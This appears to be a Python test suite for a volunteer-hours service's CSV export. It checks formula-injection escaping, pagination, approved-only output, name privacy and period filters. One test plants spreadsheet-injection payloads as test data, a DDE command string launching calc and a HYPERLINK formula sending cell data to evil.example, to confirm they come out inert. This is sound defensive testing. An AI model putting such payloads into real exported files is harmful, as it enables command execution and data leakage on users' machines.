"""The hours as CSV, as a spreadsheet opens it: no cell runs as a formula, numbers stay numbers."""

import csv
import datetime as dt
import io

HEADER = "entry_id,date,project_id,person,activity,minutes,hours,status,corrects_entry_id,note\r\n"


async def approved_sheet(world, make_sheet, rows) -> list[str]:
    imported = await world.import_sheet(make_sheet(rows), by="coordinator-1")
    assert imported.status_code == 201, imported.text
    await world.approve_all(imported.json()["entry_ids"], by="coordinator-2")
    return imported.json()["entry_ids"]


async def export(world, **params):
    answer = await world.client.get(
        "/hours/export.csv", params={"project_id": world.project_id, **params}
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    return answer


def csv_lines(answer) -> list[dict]:
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))


async def test_a_formula_in_a_cell_comes_out_inert(hours_world, make_sheet):
    world = await hours_world()
    today = world.service.settings.today()
    await world.add_members("skill", ["mallory"], today - dt.timedelta(days=10))
    await world.name("mallory", "=cmd|' /C calc'!A0", public=True)
    notes = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+31 6 1234", "@SUM(A1)", "-"]
    rows = [
        {
            "person": "mallory",
            "date": today.isoformat(),
            "minutes": 90,
            "activity": "outreach",
            "note": note,
        }
        for note in notes
    ]
    entry_ids = await approved_sheet(world, make_sheet, rows)
    answer = await export(world)
    assert answer.content.startswith("\ufeff".encode() + HEADER.encode())  # BOM, CRLF
    lines = csv_lines(answer)
    assert sorted(line["note"] for line in lines) == sorted("'" + note for note in notes)
    assert {line["person"] for line in lines} == {"'=cmd|' /C calc'!A0"}
    # Numbers are left as numbers: no quote, no apostrophe.
    assert {(line["minutes"], line["hours"]) for line in lines} == {("90", "1.50")}
    assert ",90,1.50,approved," in answer.text

    # A correction's negative minutes are a number too, though they start with "-".
    correction = await world.client.post(
        f"/hours/{entry_ids[0]}/corrections",
        json={"minutes": -30, "note": "left early"},
        headers=world.as_("coordinator-1"),
    )
    assert correction.status_code == 201, correction.text
    await world.approve_all([correction.json()["id"]], by="coordinator-2")
    corrected = [line for line in csv_lines(await export(world)) if line["corrects_entry_id"]]
    assert [(c["minutes"], c["hours"], c["corrects_entry_id"]) for c in corrected] == [
        ("-30", "-0.50", entry_ids[0])
    ]


async def test_the_export_streams_every_page_and_only_approved_hours(hours_world, make_sheet):
    world = await hours_world()
    today = world.service.settings.today()
    people = [f"v{n}" for n in range(30)]
    await world.add_members("skill", people, today - dt.timedelta(days=100))
    rows = [
        {
            "person": people[n % 30],
            "date": (today - dt.timedelta(days=n // 30)).isoformat(),
            "minutes": 1 + n % 200,
            "activity": "gardening",
        }
        for n in range(1_150)  # more than one fetch of 1,000 rows
    ]
    entry_ids = await approved_sheet(world, make_sheet, rows)
    waiting = [{"person": "v0", "date": today.isoformat(), "minutes": 5, "activity": "other"}]
    assert (await world.import_sheet(make_sheet(waiting), by="coordinator-1")).status_code == 201
    lines = list(csv.DictReader(io.StringIO((await export(world)).content.decode("utf-8-sig"))))
    assert sorted(line["entry_id"] for line in lines) == sorted(entry_ids)
    assert sum(int(line["minutes"]) for line in lines) == sum(row["minutes"] for row in rows)
    assert {line["status"] for line in lines} == {"approved"}
    assert {line["person"] for line in lines} == {""}  # nobody's name is public here
    assert [line["date"] for line in lines] == sorted(
        (line["date"] for line in lines), reverse=True
    )


async def test_a_coordinator_exports_with_names_and_a_filter_by_period(hours_world, make_sheet):
    world = await hours_world()
    today = world.service.settings.today()
    await world.add_members("core", ["ria"], today - dt.timedelta(days=10))
    await world.name("ria", "Ria", public=False)
    rows = [
        {
            "person": "ria",
            "date": (today - dt.timedelta(days=n)).isoformat(),
            "minutes": 60,
            "activity": "planning",
        }
        for n in range(4)
    ]
    await approved_sheet(world, make_sheet, rows)
    yesterday = (today - dt.timedelta(days=1)).isoformat()
    answer = await world.client.get(
        "/hours/export.csv",
        params={"project_id": world.project_id, "from": yesterday, "to": today.isoformat()},
        headers=world.as_("coordinator-2"),
    )
    lines = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert [(line["person"], line["date"]) for line in lines] == [
        ("Ria", today.isoformat()),
        ("Ria", yesterday),
    ]
    reversed_period = await world.client.get(
        "/hours/export.csv", params={"from": today.isoformat(), "to": yesterday}
    )
    assert reversed_period.status_code == 422


async def test_a_person_id_that_is_not_one_is_a_422_not_a_broken_stream(hours_world):
    world = await hours_world()
    for path in ("/hours/export.csv", "/hours"):
        answer = await world.client.get(path, params={"person_id": "a\x00b"})
        assert answer.status_code == 422, path
        assert answer.json()["detail"][0]["loc"] == ["query", "person_id"]
